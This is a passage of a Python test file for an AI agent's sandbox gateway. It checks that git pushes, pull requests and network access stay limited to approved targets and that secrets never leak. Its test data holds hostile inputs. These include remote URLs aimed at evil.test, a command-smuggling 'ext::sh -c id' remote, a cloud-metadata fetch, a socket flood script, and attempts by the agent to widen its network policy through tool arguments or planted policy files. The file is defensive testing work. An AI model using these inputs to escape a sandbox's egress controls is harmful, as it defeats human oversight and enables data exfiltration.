    "options_tab": line(f"{OLD} {NEW} refs/heads/topic\0a\tpush-options\x0bb") + b"0000",
    "options_value": line(f"{OLD} {NEW} refs/heads/topic\0push-options=1") + b"0000",
    "late_caps": line(f"{OLD} {NEW} refs/heads/topic") + line(f"{OLD} {NEW} refs/heads/x{CAPS}") + b"0000",
    "nul_in_ref": line(f"{OLD} {NEW} refs/heads/main\0 refs/heads/topic") + b"0000",
    "newline": line(f"{OLD} {NEW} refs/heads/topic\n\n{CAPS}") + b"0000",
    "space": line(f"{OLD} {NEW}  refs/heads/topic{CAPS}") + b"0000",
    "case": line(f"{OLD} {NEW} refs/heads/Topic{CAPS}") + b"0000",
    "hidden_namespace": line(f"{OLD} {NEW} refs/pull/1/head{CAPS}") + b"0000",
    "sha256": line(f"{OLD}{'0' * 24} {NEW}{'0' * 24} refs/heads/topic{CAPS}") + b"0000",
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0",
    "sign": b"+0a4" + f"{OLD} {NEW} refs/heads/topic{CAPS}".encode(),
    "x": b"0x10" + b"a" * 12,
}


@pytest.mark.parametrize("name", PUSHES)
def test_no_other_push(name: str) -> None:
    got, rule = None, ""
    try:
        got = Commands().feed(PUSHES[name])
    except InvalidError as error:
        rule = error.rule
    assert rule.startswith("git.") if rule else got is None or difference(WANTED, got)


def test_the_approved_push_is_read_the_same_in_any_pieces() -> None:
    data = line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"0000PACK"
    reader, found = Commands(), None
    for at in range(len(data)):
        found = reader.feed(data[at : at + 1]) or found
    assert found == WANTED
    assert reader.rest == b"PACK"


def one_push() -> Push:
    update = [["refs/heads/topic", OLD, NEW]]
    named = {"host": "git.test", "port": 443, "protocol": "https", "path": "/acme/repo.git"}
    return Push.from_wire({**named, "updates": update, "credential": "", "host_key": ""})


def asked_of(push: Push, method: str, path: str, query: str = "", body: bytes = b"", **headers: str) -> Any:
    """What the endpoint decides of a request; the pod's programs can read its name in git's arguments."""
    lines = tuple((name.replace("_", "-").encode(), value.encode()) for name, value in headers.items())
    head = Head(method, "x.push.internal", 80, path, query, lines, "1.1", len(body), False, body)
    return asyncio.run(push._decide(None, head))  # type: ignore[arg-type]


GOOD = line(f"{OLD} {NEW} refs/heads/topic{CAPS}") + b"0000PACK"
PACK, REFS, SERVICE = "/repository.git/git-receive-pack", "/repository.git/info/refs", "?service=git-receive-pack"
ENDPOINT = {
    "upload": ("GET", REFS, "?service=git-upload-pack"), "fetch": ("POST", "/repository.git/git-upload-pack", "", GOOD),
    "dumb": ("GET", REFS, ""), "head": ("HEAD", REFS, SERVICE), "more": ("GET", REFS, SERVICE + "&x=1"),
    "file": ("GET", "/repository.git/HEAD"), "else": ("GET", "/../else.git/info/refs", SERVICE),
    "put": ("PUT", PACK, "", GOOD), "query": ("POST", PACK, "?x", GOOD), "slash": ("POST", PACK + "/", "", GOOD),
    "body": ("GET", REFS, SERVICE, b"what nobody has approved"),
    "lfs": ("POST", "/repository.git/info/lfs/objects/batch"),
}  # fmt: skip


@pytest.mark.parametrize("name", ENDPOINT)
def test_an_endpoint_knows_two_requests(name: str) -> None:
    assert isinstance(asked_of(one_push(), *ENDPOINT[name]), Refused)


def test_an_approved_push_goes_once() -> None:
    push = one_push()
    assert isinstance(asked_of(push, "POST", PACK, "", GOOD, content_encoding="gzip"), Refused)
    assert isinstance(asked_of(push, "POST", PACK, "", PUSHES["another_object"]), Refused)
    assert not isinstance(asked_of(push, "POST", PACK, "", GOOD), Refused | Answered)
    assert isinstance(asked_of(push, "POST", PACK, "", GOOD), Refused)
    assert isinstance(asked_of(push, "POST", PACK, "", PUSHES["another_object"]), Refused)


pushing = services.world  # a world with a repository, its remote, and the credentials of both
REMOTES = (
    "https://api.test/acme/repo/../else.git", "https://api.test/acme/repo%2f..%2felse", "https://api.test/acme/else",
    "https://api.test/acme/repo/else", "https://api.test/x/../acme/repo", "https://api.test@evil.test/acme/repo",
    "https://evil.test/acme/repo", "https://api.test.evil.test/acme/repo", "https://api.test/acme/repo?x=/../else",
    "https://api.test/acme/repo#x", "https://api.test/ACME/REPO", "https://api.test//acme/repo",
    "git@evil.test:acme/repo",
    "https://api.test\\@evil.test/acme/repo", "http://api.test/acme/repo", "ext::sh -c id", "file:///acme/repo",
    "https://API.test.:443/acme/else", "https://93.184.216.66/acme/repo", "-u", "https://api.test/acme/repo\u200b",
)  # fmt: skip


def test_no_pull_request_or_push_elsewhere(pushing: World) -> None:
    """A remote is what the agent's repository says it is: in every spelling it is the rule's, or nothing."""
    services.commit(pushing, "two")
    services.git("checkout", "-q", "-b", "topic", cwd=pushing.workspace)
    before = services.remote(pushing)
    with Held(pushing, policy=pushing.policy(services.POLICY), answer="approve") as held:  # whatever is asked
        for url in REMOTES:
            services.git("config", "remote.origin.url", url, cwd=pushing.workspace)
            for operation in (
                {"kind": "create_pr", "title": "x", "base": "main"},
                {"kind": "git_push", "ref": "topic"},
            ):
                answer = held.operate(**operation)
                assert answer.get("status") != "ok", (url, answer)
        services.git("config", "remote.origin.url", "https://api.test/acme/repo.git", cwd=pushing.workspace)
        for field in ({"head": "evil:topic"}, {"base": "refs/heads/main"}, {"head": "--x"}, {"base": "a..b"}):
            answer = held.operate(**{"kind": "create_pr", "title": "x", "base": "main", **field})
            assert answer.get("status") != "ok", (field, answer)
        assert not pushing.seen(method="POST")
        answer = held.operate(kind="create_pr", title="x", base="main")  # and the right one goes
        assert answer.get("status") == "ok", answer
    assert [one["target"] for one in pushing.seen(method="POST")] == ["/api/v3/repos/acme/repo/pulls"]
    assert not pushing.seen(address="93.184.216.66")
    assert services.remote(pushing) == before
    assert services.remote(pushing, "topic") == ""
    assert services.SECRET not in pushing.audit_log.read_text()


# --- the gateway, and the policy ---


def test_a_flood_harms_nobody_else(world: World, tmp_path: Path) -> None:
    """Long heads, long paths, half-open handshakes, bodies that never end: the pod's next request is answered, and so
    is another pod's, and nothing gets out while it lasts."""
    code = r"""
import socket, ssl, time
held = []
api, other = (socket.gethostbyname(name) for name in ("api.test", "other.test"))
for at in range(150):
    s = socket.create_connection((api, 443), 5); s.sendall(b"\x16\x03\x01\x40\x00\x01"); held.append(s)
    s = socket.create_connection((other, 80), 5); s.sendall(b"GET /open/x HTTP/1.1\r\nX: "); held.append(s)
for raw in (b"GET /open/" + b"a" * 60000 + b" HTTP/1.1\r\nHost: other.test\r\n\r\n", b"A" * 70000,
            b"GET /open/" + b"%61" * 20000 + b" HTTP/1.1\r\nHost: other.test\r\n\r\n",
            b"GET /open/x HTTP/1.1\r\n" + b"a:b\r\n" * 5000 + b"\r\n", b"\xff" * 70000,
            b"GET /open/../../x HTTP/1.1\r\nHost: other.test\r\n\r\n"):
    s = socket.create_connection((other, 80), 5); s.settimeout(10); s.sendall(raw)
    try:
        print(s.recv(12))
    except OSError as error:
        print(repr(error))
for s in held: s.close()
for attempt in range(40):
    s = socket.create_connection((other, 80), 5); s.settimeout(10)
    s.sendall(b"GET /open/after HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
    try:
        if s.recv(12) == b"HTTP/1.1 200":
            print("after"); break
    except OSError:
        pass
    time.sleep(0.1)
"""
    world.write("flood.py", code)
    with Held(world, policy=world.policy(POLICY % "5.00", "second.yaml")) as second:
        done = run(world, "python3", "flood.py")
        assert "after" in done.stdout, done.stdout + done.stderr
        assert done.stdout.count("HTTP/1.1 4") >= 4
        argv = ["curl", "-sS", "http://other.test/open/second"]
        answer = second.operate(kind="run", argv=argv)
        assert "hello from other.test" in answer["result"]["stdout"]
    assert {one["target"] for one in world.seen(address=ELSE)} <= {
        "/open/ok", "/open/after", "/open/second", "/open/" + "a" * 60_000, "/open/" + "a" * 20_000, "/open/x",
    }  # fmt: skip


WIDER = [
    {"kind": "connect", "conn": 1, "host": "evil.test", "port": 443, "protocol": "tls"},
    {"kind": "web_fetch", "url": "http://evil.test/x"},
    {"kind": "web_fetch", "url": "http://169.254.169.254/latest"},
    {"kind": "web_search", "query": "x", "base": "http://evil.test"},
    {"kind": "create_pr", "title": "x", "url": "https://evil.test/a/b"},
    {"kind": "git_push", "url": "https://evil.test/a/b", "new": "1" * 40},
    {"kind": "run", "argv": ["true"], "network": {"allow": ["evil.test"]}},
    {"kind": "run", "argv": ["true"], "policy": "network: {allow: [evil.test]}"},
    {"kind": "approve", "what": "network"},
]


@pytest.mark.parametrize("operation", WIDER, ids=lambda one: str(one["kind"]))
def test_no_operation_widens_the_network(world: World, operation: dict[str, Any]) -> None:
    with Held(world, policy=world.policy(POLICY % "5.00")) as held:
        answer = held.operate(**operation)
        assert answer.get("status") != "ok", answer
        after = held.operate(kind="run", argv=["curl", "-sS", "-m", "3", "http://evil.test/wider"])
        assert after.get("result", {}).get("exit_code") != 0, after
    assert not world.seen(address="93.184.216.66")


def test_no_file_of_the_workspace_widens_the_network(world: World) -> None:
    """What the agent writes where a policy might be looked for is not one."""
    text = "version: 1\nnetwork: {allow: [evil.test, {host: evil.test, port: 80}]}\n"
    code = (
        "import os\n"
        "for name in ('.nucleus/policy.yaml', 'nucleus.yaml', 'policy.yaml', '.nucleus.yaml', '.env'):\n"
        "    os.makedirs(os.path.dirname(name) or '.', exist_ok=True)\n"
        f"    open(name, 'w').write({text!r})\n"
    )
    run(world, "python3", "-c", code)
    done = run(world, "curl", "-sS", "-m", "3", "http://evil.test/wider")
    assert done.returncode != 0
    assert not world.seen(address="93.184.216.66")


def test_the_secrets_are_nowhere(world: World) -> None:
    """After all of it."""
    log = world.audit_log.read_text()
    assert SECRET not in log
    assert KEY not in log
    for one in world.seen(server="http"):
        said = json.dumps(one)
        assert SECRET not in said or one["address"] == API
        assert KEY not in said or one["address"] == MODEL


def test_every_rule_of_a_model_is_one_that_is_said() -> None:
    """`models.check` on the live path raises nothing else, whatever it is given."""
    for body in BODIES.values():
        with pytest.raises(InvalidError) as error:
            models.check("anthropic", "/v1/messages", body.encode("utf-8", "surrogatepass"))
        assert error.value.rule.startswith("model.")
